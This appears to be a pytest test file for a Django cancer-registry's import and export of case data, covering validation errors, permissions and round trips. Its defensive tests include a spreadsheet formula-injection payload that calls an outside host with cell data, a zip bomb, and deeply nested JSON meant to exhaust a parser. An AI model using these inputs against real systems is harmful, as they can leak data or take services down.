"""Import and export: all or nothing, precise errors, idempotent, and a lossless round trip."""

import copy
import csv
import io
import json
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from rest_framework.test import APIClient

from registry import exchange
from registry.models import (
    PATIENT_RECORD_MODELS,
    BoardAttendance,
    BoardMeeting,
    CaseStatus,
    Centre,
    DataQuery,
    Finding,
    Patient,
    ProgressionEvent,
    QueryStep,
    TreatmentLine,
)
from tests.jobs import jobs_run

pytestmark = pytest.mark.django_db


def document_of(*patients) -> dict:
    return exchange.export_document(Patient.objects.filter(pk__in=[p.pk for p in patients]))


def run_import(user, document, *, dry_run=False) -> exchange.ImportResult:
    located = exchange.read_json(json.dumps(document).encode())
    return exchange.import_cases(located, user=user, dry_run=dry_run, reason="test")


def counts() -> dict:
    return {m.__name__: m.objects.count() for m in (Patient, *PATIENT_RECORD_MODELS)} | {
        f"history {m.__name__}": m.history.count() for m in (Patient, *PATIENT_RECORD_MODELS)
    }


def test_reimporting_an_export_changes_nothing(data_manager, case_a):
    before = counts()
    result = run_import(data_manager, document_of(case_a.patient))
    assert result.ok and not sum(result.created.values()) and not sum(result.updated.values())
    assert sum(result.unchanged.values()) == 10  # the patient and its 9 records
    assert counts() == before


def test_one_bad_record_rejects_the_whole_import_with_every_error(data_manager, case_a):
    document = document_of(case_a.patient)
    good = copy.deepcopy(document["cases"][0])
    good.update(registry_id="MBC-NEW01", record_number="R-NEW-1", board_discussions=[])
    bad = document["cases"][0]
    bad["treatment_lines"][0]["end_date"] = "2000-01-01"
    bad["treatment_lines"][0]["end_reason"] = "progression"
    bad["surgeries"][0]["mastectomy"] = False
    bad["surgeries"][0]["axillary_dissection"] = False
    document["cases"] = [good, bad]
    before = counts()

    result = run_import(data_manager, document)

    assert not result.ok and not result.written
    problems = {(e.where, e.field) for e in result.errors}
    assert ("case 2 (MBC-A0001) › treatment_lines[1]", "end_date") in problems
    assert ("case 2 (MBC-A0001) › surgeries[1]", "lumpectomy") in problems
    assert counts() == before  # the good case was not written either
    assert not Patient.objects.filter(registry_id="MBC-NEW01").exists()


def test_dry_run_reports_what_would_change_and_writes_nothing(data_manager, case_a):
    document = document_of(case_a.patient)
    document["cases"][0]["treatment_lines"][0]["agents"] = "anastrozole + palbociclib"
    before = counts()
    result = run_import(data_manager, document, dry_run=True)
    assert result.ok and result.updated == {"treatment lines": 1}
    assert counts() == before
    assert TreatmentLine.objects.get().agents == "letrozole + palbociclib"


def test_a_case_of_a_centre_the_user_is_not_in_is_rejected(data_manager, case_b):
    document = document_of(case_b.patient)
    document["cases"][0]["registry_id"] = "MBC-OTHER"
    result = run_import(data_manager, document)
    assert [(e.field, e.message) for e in result.errors] == [
        ("centre", "Centre 'CB' is not one you can import into.")
    ]
    assert not Patient.objects.filter(registry_id="MBC-OTHER").exists()


def test_another_centres_registry_id_cannot_be_overwritten(data_manager, case_a, case_b):
    document = document_of(case_a.patient)
    document["cases"][0]["registry_id"] = case_b.patient.registry_id
    result = run_import(data_manager, document)
    assert result.errors[0].message == "This registry ID is not available to you."
    assert Patient.objects.get(registry_id=case_b.patient.registry_id).centre.code == "CB"


def test_xlsx_errors_name_the_sheet_and_row(data_manager, case_a):
    tables = exchange.cases_to_tables(document_of(case_a.patient)["cases"])
    tables["receptor_assessments"][0]["er_percent"] = 140
    workbook = openpyxl.load_workbook(io.BytesIO(exchange.tables_to_xlsx(tables)))
    buffer = io.BytesIO()
    workbook.save(buffer)

    result = exchange.import_cases(
        exchange.read_xlsx(buffer.getvalue()), user=data_manager, dry_run=False, reason="test"
    )

    assert [(e.where, e.field) for e in result.errors] == [
        ("receptor_assessments row 2", "er_percent")
    ]


def finished_import_job(client, data, path="/api/import/", **kwargs) -> dict:
    """POST /api/import/ (202), run the job, and return its final status."""
    with jobs_run():
        response = client.post(path, data, **kwargs)
    assert response.status_code == 202, response.content
    return client.get(response["Location"]).json()


def test_unreadable_files_fail_their_job_before_anything_is_read(data_manager):
    client = APIClient()
    client.force_authenticate(data_manager)
    for name, content, message in [
        ("cases.json", b"{not json", "Not a JSON document"),
        ("cases.xlsx", b"not a zip", "not a workbook"),
        ("cases.exe", b"MZ", "Upload a .json case file or an .xlsx workbook."),
    ]:
        job = finished_import_job(client, {"file": SimpleUploadedFile(name, content)})
        assert job["state"] == "failed"
        assert job["failure_reason"] == "The file cannot be read: nothing was changed."
        [error] = job["errors"]
        assert (error["where"], error["field"]) == ("file", "file")
        assert message in error["message"]


def test_api_import_dry_run_and_errors(data_manager, case_a):
    client = APIClient()
    client.force_authenticate(data_manager)
    document = document_of(case_a.patient)
    document["cases"][0]["follow_up"][0]["vital_status"] = "zombie"
    job = finished_import_job(client, document, "/api/import/?dry_run=true", format="json")
    assert job["state"] == "failed" and job["dry_run"] is True
    assert job["errors"][0]["field"] == "vital_status"
    assert job["summary"]["written"] is False


def test_round_trip_of_the_demo_registry_in_both_formats(tmp_path, django_user_model):
    call_command("seed_demo", patients=25, seed=11)
    first_json = tmp_path / "first.json"
    call_command("export_cases", output=str(first_json))
    call_command("export_cases", format="csv", output=str(tmp_path / "csv"))
    # the demo's findings, queries, review and lock
    quality = (Finding, QueryStep, DataQuery, CaseStatus)
    for model in (
        *quality,
        *reversed(PATIENT_RECORD_MODELS),
        BoardAttendance,
        BoardMeeting,
        Patient,
    ):
        model.objects.all().delete()  # an empty registry: only centres and users remain
    assert Centre.objects.filter(code__in=["MIL", "TOR", "NAP"]).count() == 3
    root = django_user_model.objects.get(username="admin")

    call_command("import_cases", str(first_json), user=root.username)
    second_json = tmp_path / "second.json"
    call_command("export_cases", output=str(second_json))
    assert second_json.read_text() == first_json.read_text()

    csv_files = sorted(str(p) for p in (tmp_path / "csv").glob("*.csv"))
    before = counts()
    call_command("import_cases", *csv_files, user=root.username)
    assert counts() == before  # the tables hold exactly the same cases


def test_text_that_looks_like_a_formula_survives_an_xlsx_round_trip(data_manager, case_a):
    formula = '=HYPERLINK("http://example.org/?"&A1,"open")'
    ProgressionEvent.objects.filter(patient=case_a.patient).update(notes=formula)
    Patient.objects.filter(pk=case_a.patient.pk).update(given_name="=1+1")
    content = exchange.tables_to_xlsx(
        exchange.cases_to_tables(document_of(case_a.patient)["cases"])
    )

    sheet = openpyxl.load_workbook(io.BytesIO(content))["progression_events"]
    notes = next(cell for cell in sheet[2] if cell.value == "'" + formula)
    result = exchange.import_cases(
        exchange.read_xlsx(content), user=data_manager, dry_run=False, reason="test"
    )

    assert notes.data_type == "s"  # text, escaped as in every sheet the registry writes
    assert result.ok and not sum(result.updated.values())
    assert ProgressionEvent.objects.get(patient=case_a.patient).notes == formula
    assert Patient.objects.get(pk=case_a.patient.pk).given_name == "=1+1"


@pytest.mark.parametrize(
    ("section", "value", "field"),
    [
        ("treatment_lines", "not a list", "treatment_lines"),
        ("surgeries", [1], "__all__"),
        ("board_discussions", [{"meeting_date": "soon"}], "meeting_date"),
    ],
)
def test_malformed_sections_are_reported_not_crashed(data_manager, case_a, section, value, field):
    document = document_of(case_a.patient)
    document["cases"][0][section] = value
    result = run_import(data_manager, document)
    assert [e.field for e in result.errors] == [field]


def test_malformed_responses_are_reported(data_manager, case_a):
    document = document_of(case_a.patient)
    document["cases"][0]["treatment_lines"][0]["responses"] = 5
    result = run_import(data_manager, document)
    assert [e.field for e in result.errors] == ["responses"]


def test_the_documented_data_dictionary_is_up_to_date():
    from pathlib import Path

    from registry.management.commands.exchange_dictionary import dictionary

    text = (Path(__file__).parents[2] / "docs" / "exchange.md").read_text()
    start = text.index("-->\n", text.index("<!-- generated")) + 4
    end = text.index("<!-- end of generated dictionary -->")
    assert text[start:end] == dictionary()


def test_the_example_file_imports_cleanly(data_manager, centre_a):
    from pathlib import Path

    content = (Path(__file__).parents[2] / "docs" / "example-case.json").read_bytes()
    Centre.objects.filter(pk=centre_a.pk).update(code="MIL")
    result = exchange.import_cases(
        exchange.read_json(content), user=data_manager, dry_run=True, reason="example"
    )
    assert result.ok, result.errors


def test_a_formula_without_its_result_refuses_the_file_and_says_where(data_manager, case_a):
    content = exchange.tables_to_xlsx(
        exchange.cases_to_tables(document_of(case_a.patient)["cases"])
    )
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    workbook["treatment_lines"]["F2"] = "=DATE(2019,1,1)"  # written by a program: no result
    buffer = io.BytesIO()
    workbook.save(buffer)

    with pytest.raises(exchange.ExchangeFileError) as refused:
        exchange.read_xlsx(buffer.getvalue())

    assert str(refused.value).startswith("sheet treatment_lines row 2 column F: a formula")


def test_json_nested_too_deeply_is_refused_everywhere_it_is_read(client, data_manager):
    deep = b"[" * 100_000 + b"]" * 100_000
    api = APIClient()
    api.force_authenticate(data_manager)
    client.force_login(data_manager)
    before = counts()

    body = api.post("/api/import/", data=deep, content_type="application/json")
    case = api.put("/api/cases/MBC-X1/", data=deep, content_type="application/json")
    upload = finished_import_job(api, {"file": SimpleUploadedFile("cases.json", deep)})
    with jobs_run():
        page = client.post(reverse("registry:import"), {"file": SimpleUploadedFile("c.json", deep)})
    job_page = client.get(page.url)

    assert body.status_code == case.status_code == 400
    assert body.json()["detail"] == "JSON parse error - nested too deeply."
    assert upload["errors"][0]["message"] == "Not a case file: its JSON is nested too deeply."
    assert page.status_code == 302
    assert "nested too deeply" in job_page.content.decode()
    assert counts() == before


def test_a_workbook_that_unpacks_to_far_more_than_case_tables_is_refused(settings, data_manager):
    settings.IMPORT_MAX_BYTES = 1024 * 1024  # so the bomb below can stay small
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (30 * 1024 * 1024))
    client = APIClient()
    client.force_authenticate(data_manager)

    job = finished_import_job(client, {"file": SimpleUploadedFile("cases.xlsx", bomb.getvalue())})

    assert len(bomb.getvalue()) < 100_000
    assert job["state"] == "failed"
    assert [e["message"] for e in job["errors"]] == [
        "This workbook unpacks to 30 MB, far more than case tables do: it is not imported."
    ]


def test_csv_export_writes_no_formula_and_reimports_the_exact_values(data_manager, case_a):
    formula = '=HYPERLINK("http://example.org/?"&A1,"open")'
    ProgressionEvent.objects.filter(patient=case_a.patient).update(notes=formula)
    Patient.objects.filter(pk=case_a.patient.pk).update(given_name="'quoted")
    files = exchange.tables_to_csv(exchange.cases_to_tables(document_of(case_a.patient)["cases"]))

    rows = list(csv.reader(io.StringIO(files["progression_events.csv"])))
    result = exchange.import_cases(
        exchange.read_csv_files({n: t.encode() for n, t in files.items()}),
        user=data_manager,
        dry_run=False,
        reason="test",
    )

    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert "'" + formula in rows[1]
    assert result.ok and not sum(result.updated.values())
    assert ProgressionEvent.objects.get(patient=case_a.patient).notes == formula
    assert Patient.objects.get(pk=case_a.patient.pk).given_name == "'quoted"


def test_csv_files_with_old_mac_line_ends_import(data_manager, case_a):
    files = exchange.tables_to_csv(exchange.cases_to_tables(document_of(case_a.patient)["cases"]))
    cr_only = {name: text.replace("\n", "\r").encode() for name, text in files.items()}

    result = exchange.import_cases(
        exchange.read_csv_files(cr_only), user=data_manager, dry_run=True, reason="test"
    )

    assert result.ok, result.errors
    assert result.cases == 1 and not sum(result.updated.values())


def test_a_broken_csv_file_is_refused_with_its_line(data_manager):
    oversized = b"registry_id,centre\nMBC-1,CA\n" + b"x" * 200_000 + b",CA\n"

    with pytest.raises(exchange.ExchangeFileError, match=r"patients\.csv, line 3"):
        exchange.read_csv_files({"patients.csv": oversized})


def test_the_import_command_reads_cr_only_csv_files(tmp_path, data_manager, case_a):
    tables = exchange.cases_to_tables(document_of(case_a.patient)["cases"])
    for name, text in exchange.tables_to_csv(tables).items():
        (tmp_path / name).write_bytes(text.replace("\n", "\r").encode())
    out = io.StringIO()

    call_command("import_cases", *sorted(map(str, tmp_path.glob("*.csv"))), user="dm_a", stdout=out)

    assert out.getvalue().startswith("Imported 1 cases")


def test_a_json_file_with_a_byte_order_mark_is_read(data_manager, case_a):
    content = "\ufeff".encode() + json.dumps(document_of(case_a.patient)).encode()

    located = exchange.read_json(content)

    assert [item.case["registry_id"] for item in located] == [case_a.patient.registry_id]
